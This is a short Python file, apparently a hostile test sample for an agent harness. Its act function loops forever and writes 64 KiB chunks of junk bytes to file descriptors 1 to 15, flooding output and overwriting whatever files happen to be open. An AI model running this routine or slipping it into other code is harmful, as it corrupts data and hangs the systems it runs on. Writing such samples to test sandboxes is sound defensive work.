"""Writes without end to every open file."""

import os


def act(observation):
    while True:
        for number in range(1, 16):
            try:
                os.write(number, b"x" * 65536)
            except OSError:
                continue
